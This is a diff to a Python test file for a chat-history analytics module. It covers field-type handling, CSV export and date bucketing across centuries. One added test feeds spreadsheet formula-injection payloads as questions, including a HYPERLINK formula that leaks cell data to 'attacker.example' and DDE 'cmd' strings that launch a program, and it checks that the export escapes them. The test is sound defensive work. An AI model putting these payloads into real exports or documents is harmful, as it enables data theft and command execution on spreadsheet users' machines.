@@ -16,6 +16,7 @@ from history.insights import (
     COLUMNS,
     answer_sources,
     between,
+    bucket_size,
     daily_activity,
     feedback_by_day,
     headline,
@@ -236,32 +237,25 @@ def test_ill_typed_fields_count_as_missing(store):
         "title": "hand-edited",
         "created_at": "2026-03-02T00:00:00Z",
         "messages": [
-            {"role": "user", "content": "Is this a question", "created_at": 12345},
-            {
-                "role": "assistant",
-                "content": "a",
-                "created_at": "yesterday",
-                "latency_ms": "fast",
-                "first_token_ms": True,
-                "usage": "lots",
-                "feedback": 1,
-                "source": ["scripted"],
-                "status": {"stopped": True},
-            },
+            {"role": "user", "content": "Is this a question", "created_at": "12345"},
+            {"role": "assistant", "content": "a", "created_at": "yesterday"},
             {
                 "role": "assistant",
                 "content": "b",
                 "created_at": "2026-03-02T12:00:00",  # no zone: UTC
                 "latency_ms": 812.6,
                 "first_token_ms": -5,
-                "usage": {"prompt_tokens": "12", "completion_tokens": None, "total_tokens": 1e12},
-                "feedback": "UP",
+                "usage": {"completion_tokens": None},
                 "source": "oracle",
             },
         ],
     }
     (store.root / "odd.json").write_text(json.dumps(odd), encoding="utf-8")
+    wrong_types = {"latency_ms": "fast", "usage": "lots", "feedback": 1, "source": ["scripted"]}
+    bad = odd | {"id": "bad", "messages": [odd["messages"][0], odd["messages"][1] | wrong_types]}
+    (store.root / "bad.json").write_text(json.dumps(bad), encoding="utf-8")  # does not fit: left out
     frame = insight_rows(store)
+    assert "bad" not in set(frame["conversation_id"])
     rows = frame[frame["conversation_id"] == "odd"]
     assert column(rows, "created_at") == [None, None, pd.Timestamp("2026-03-02T12:00:00Z")]
     assert column(rows, "source") == [None, "model", "model"]
@@ -404,3 +398,82 @@ def test_csv_is_utf8_with_iso_times(frame):
         "2026-03-03T23:30:04.000Z",
     ]
     assert "¿Cómo cambio mi contraseña?".encode() in data
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+]
+
+
+@pytest.mark.parametrize("question", FORMULAS)
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path, question):
+    store = JsonHistoryStore(tmp_path / "conversations")
+    answer = reply("2026-03-01T10:00:01.000Z", 1000, 200, tokens(10, 20, 30))
+    save(store, "a1", [user(question, "2026-03-01T10:00:00.000Z"), answer])
+    rows = list(csv.DictReader(io.StringIO(to_csv(insight_rows(store)).decode("utf-8"), newline="")))
+    asked = rows[0]
+    assert asked["first_question"] == "'" + question  # shown as the text it is, never run
+    assert asked["conversation_id"] == "a1" and asked["created_at"] == "2026-03-01T10:00:00.000Z"
+    assert rows[1]["latency_ms"] == "1000" and rows[1]["total_tokens"] == "30"  # numbers stay numbers
+
+
+def test_csv_cells_that_only_look_alike_are_unchanged(frame):
+    rows = list(csv.DictReader(io.StringIO(to_csv(frame).decode("utf-8"))))
+    assert [row["first_question"] for row in rows if row["first_question"]] == [
+        "What is Python?", "what is python", "¿Cómo cambio mi contraseña?", "what is python",
+    ]
+    assert rows[0]["created_at"] == "2026-03-01T10:00:00.000Z"
+
+
+# Times a clock or an import got wrong: the first and last days pandas' old nanosecond times could hold.
+FAR_APART = [
+    Conversation(id="early", messages=[
+        user("from 1677", "1677-09-22T12:00:00Z"),
+        reply("1677-09-22T12:00:01Z", 1000, 100, tokens(1, 2, 3), feedback="up"),
+    ]),
+    Conversation(id="late", messages=[
+        user("from 2262", "2262-04-10T12:00:00Z"),
+        reply("2262-04-10T12:00:02Z", 2000, 200, tokens(2, 3, 5)),
+    ]),
+]
+
+
+def test_centuries_apart_are_counted_per_decade_not_per_day():
+    frame = messages_frame(FAR_APART)
+    assert bucket_size(frame) == "decade"
+    for table in (daily_activity(frame), reply_times(frame), feedback_by_day(frame)):
+        assert len(table) == 60  # 1670 to 2260, not 213,000 days
+        assert table.index[0].date() == date(1670, 1, 1) and table.index[-1].date() == date(2260, 1, 1)
+    activity = daily_activity(frame)
+    assert activity["conversations"].sum() == 2 and activity["messages"].sum() == 4
+    assert column(reply_times(frame), "total_tokens")[0] == 3 and feedback_by_day(frame)["up"].sum() == 1
+
+
+@pytest.mark.parametrize(
+    ("last_day", "size", "rows"),
+    [
+        ("2026-03-01", "day", 1),
+        ("2027-03-01", "day", 366),  # a year and a day still shows every day
+        ("2028-03-01", "week", 106),  # Mondays from 2026-02-23 to 2028-02-28
+        ("2040-03-01", "month", 14 * 12 + 1),
+        ("2300-03-01", "year", 275),
+        ("2600-03-01", "decade", 59),
+        ("9999-12-31", "century", 80),
+    ],
+)
+def test_the_bucket_grows_with_the_range_and_never_makes_more_than_400_rows(last_day, size, rows):
+    first = Conversation(id="first", messages=[user("a", "2026-03-01T10:00:00Z")])
+    last = Conversation(id="last", messages=[user("b", f"{last_day}T10:00:00Z")])
+    frame = messages_frame([first, last])
+    activity = daily_activity(frame)
+    assert bucket_size(frame) == size and len(activity) == rows <= 400
+    assert activity["conversations"].sum() == 2 and activity.index.is_monotonic_increasing
